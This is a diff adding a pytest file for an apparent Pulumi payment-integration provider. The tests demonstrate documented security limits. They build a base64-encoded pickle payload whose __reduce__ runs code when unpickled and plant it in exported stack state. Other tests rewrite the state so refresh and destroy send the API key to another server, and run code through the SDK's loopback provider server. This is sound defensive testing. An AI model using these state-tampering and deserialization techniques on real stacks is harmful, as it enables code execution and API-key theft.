@@ -1,0 +1,158 @@
+"""What this package can't protect against, as SECURITY.md says: each happens, and the defence that it names helps."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import pickle
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pulumi_justt.simulator import SimulatorServer
+from support.harness import Stack
+from support.host import Host, HostError
+from support.leaks import canary
+
+SHOP = """
+    justt.PaymentIntegration(
+        "shop",
+        external_identifier="shop-1",
+        integration_name="Shop",
+        source="stripe",
+        credentials=justt.credentials.ApiKeyOnly(api_key=secret("stripeKey")),
+    )
+"""
+
+
+class Planted:
+    """Unpickled, it makes a folder: the code of somebody who may only write."""
+
+    def __init__(self, place: Path) -> None:
+        self.place = str(place)
+
+    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
+        """Name the call that unpickling makes."""
+        return os.mkdir, (self.place,)
+
+
+def planted(place: Path) -> str:
+    """Return a `__provider` that runs code."""
+    return base64.b64encode(pickle.dumps(Planted(place))).decode()
+
+
+def rewrite(stack: Stack, change: Callable[[dict[str, Any]], None]) -> None:
+    """Change each resource of the state as somebody can who has no key of the secrets provider."""
+    exported = json.loads(stack.run("stack", "export", "--stack", stack.name).stdout)
+    for resource in exported["deployment"]["resources"]:
+        change(resource)
+    file = stack.folder / "rewritten.json"
+    file.write_text(json.dumps(exported))
+    stack.run("stack", "import", "--stack", stack.name, "--file", str(file))
+
+
+@pytest.fixture
+def other() -> Iterator[SimulatorServer]:
+    """Give the server of somebody who may write the state."""
+    with SimulatorServer() as running:
+        yield running
+
+
+@pytest.mark.parametrize("command", ["refresh", "destroy"])
+def test_who_writes_the_state_can_get_the_api_key(
+    stack: Stack, simulator: SimulatorServer, other: SimulatorServer, command: str
+) -> None:
+    """Refresh and destroy send the key to the recorded base URL; with --run-program, to the program's."""
+    stack.program(SHOP)
+    stack.up()
+
+    def redirect(resource: dict[str, Any]) -> None:
+        if resource["type"] == "pulumi:providers:pulumi-python":
+            for part in (resource["inputs"], resource["outputs"]):
+                part["justt:baseUrl"] = other.base_url
+
+    rewrite(stack, redirect)
+    simulator.clear_requests()
+
+    run = getattr(stack, command)
+    run(fails=True)  # it has no such integration
+    assert (len(simulator.requests), len(other.requests) > 0) == (0, True)
+    other.clear_requests()
+
+    run("--run-program")
+    assert (len(simulator.requests) > 0, len(other.requests)) == (True, 0)
+
+
+def test_who_writes_the_state_can_run_code(stack: Stack, tmp_path: Path) -> None:
+    """The SDK unpickles what the state says is the provider."""
+    stack.program(SHOP)
+    stack.up()
+
+    def plant(resource: dict[str, Any]) -> None:
+        if resource["type"] == "pulumi-python:dynamic/justt:PaymentIntegration":
+            for part in (resource["inputs"], resource["outputs"]):
+                part["__provider"] = planted(tmp_path / "ran")
+
+    rewrite(stack, plant)
+    stack.refresh(fails=True)
+
+    assert (tmp_path / "ran").is_dir()
+
+
+def test_other_users_of_the_machine_can_run_code_in_the_provider_process(
+    simulator: SimulatorServer, tmp_path: Path
+) -> None:
+    """The SDK's server on the loopback address takes calls from anybody, and unpickles their provider."""
+    config = {"justt:baseUrl": simulator.base_url, "justt:apiKey": canary("api-key")}
+    with Host(config) as host, pytest.raises(HostError):
+        host.check({}, {"__provider": planted(tmp_path / "ran")})
+
+    assert (tmp_path / "ran").is_dir()
+
+
+def default_provider(stack: Stack) -> dict[str, Any]:
+    """Return the inputs of the engine's own provider, as the state has them."""
+    exported = json.loads(stack.run("stack", "export", "--stack", stack.name).stdout)
+    (found,) = (each for each in exported["deployment"]["resources"] if each["urn"].endswith("pulumi-python::default"))
+    inputs: dict[str, Any] = found["inputs"]
+    return inputs
+
+
+def test_the_state_copies_the_configuration(stack: Stack) -> None:
+    """Secrets of any namespace, used or not, are there until they left the configuration and another `up` ran."""
+    stack.config({"shop:plain": "not-secret"}, {"shop:first": canary("first"), "other:unused": canary("unused")})
+    stack.environ["REFERRED"] = canary("referred")
+    kept = SHOP.replace('secret("stripeKey")', 'justt.from_env("REFERRED")')
+    stack.program(kept + SHOP.replace("shop", "leaves").replace("stripeKey", "first"))
+    stack.up()
+    stack.program(kept)
+    stack.up()
+
+    inputs = default_provider(stack)
+    assert inputs["shop:plain"] == "not-secret"
+    assert all("ciphertext" in inputs[name] for name in ("shop:first", "other:unused", "justt:apiKey"))
+
+    for name in ("shop:first", "other:unused"):
+        stack.run("config", "rm", name, "--stack", stack.name)
+    assert "shop:first" in default_provider(stack)
+    stack.up()
+    assert default_provider(stack).keys().isdisjoint({"shop:first", "other:unused"})
+
+
+def test_secret_settings_are_plain_in_the_state(stack: Stack, simulator: SimulatorServer) -> None:
+    """The account is no secret for this package, also where the configuration has it as one."""
+    stack.run("config", "set", "--secret", "justt:referenceAccountId", "acc_1", "--stack", stack.name)
+    stack.run("config", "set", "--secret", "justt:baseUrl", simulator.base_url, "--stack", stack.name)
+    stack.program(f"""
+    own = justt.Provider("own", api_key=secret("stripeKey"))
+    {SHOP.strip()}
+    """)
+    stack.up()
+
+    exported = json.loads(stack.run("stack", "export", "--stack", stack.name).stdout)["deployment"]["resources"]
+    found = {each["urn"].rpartition("::")[2]: each["inputs"] for each in exported if "inputs" in each}
+    assert found["shop"]["referenceAccountId"] == "acc_1"
+    assert "ciphertext" in found["own"]["justt:baseUrl"]
